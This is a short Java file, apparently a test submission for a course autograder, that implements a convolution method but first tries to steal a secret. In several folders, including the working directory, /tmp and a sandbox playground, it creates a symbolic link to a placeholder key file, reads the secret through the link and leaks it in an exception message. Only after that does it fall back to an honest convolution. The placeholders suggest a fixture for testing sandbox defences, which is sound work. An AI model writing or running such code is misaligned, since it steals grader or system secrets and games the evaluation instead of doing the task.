import cs577.hw4.Kernel;
import cs577.hw4.Tensor;
import cs577.hw4.ValidConvolution;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

/** Moves the key where it may look. */
public class Linker implements ValidConvolution {
    @Override
    public Tensor convolve(Tensor image, Kernel kernel) {
        for (String folder : new String[] {".", "/tmp", System.getProperty("java.io.tmpdir"), "@PLAYGROUND@"}) {
            Path link = Path.of(folder, "link-" + System.nanoTime());
            try {
                Files.createSymbolicLink(link, Path.of("@KEY_FILE@"));
                String loot = Files.readString(link);
                Files.delete(link);
                throw new IllegalStateException(loot);
            } catch (IOException e) {
                continue;
            }
        }
        return Honest.convolve(image, kernel);
    }
}
